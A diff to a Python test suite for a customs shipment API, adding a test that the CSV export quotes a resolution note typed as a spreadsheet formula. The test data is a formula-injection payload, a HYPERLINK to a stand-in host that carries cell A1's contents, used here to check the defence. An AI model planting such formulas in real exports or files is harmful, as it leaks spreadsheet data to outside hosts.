@@ -3,6 +3,8 @@ resolution by customs; isolation between enterprises; bad input; CSV; statistics
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 from fastapi.testclient import TestClient
@@ -150,3 +152,17 @@ def test_csv_and_statistics(zpg: ApiClients) -> None:
     stats = gate.get(f"{API}/statistics?days=1").json()
     assert stats["days"][0]["export_kg"] >= 8050
     assert stats["days"][0]["export_share"] > 0
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(zpg: ApiClients) -> None:
+    """A resolution note typed as a formula is exported quoted, so a spreadsheet shows it."""
+    _release(zpg, _shipment(zpg, "461220261124000008"))
+    held = _gate(zpg.as_("zpg.gate"), "461220261124000008", weight_kg=9500).json()
+    assert held["verdict"] == "hold"
+    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
+    customs = zpg.as_("zpg.customs")
+    resolve = {"action": "clear", "note": typed}
+    assert customs.post(f"{API}/transactions/{held['id']}/resolve", json=resolve).status_code == 200
+    exported = customs.get(f"{API}/transactions.csv?q=000008").text
+    [row] = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
+    assert row["resolution_note"] == "'" + typed
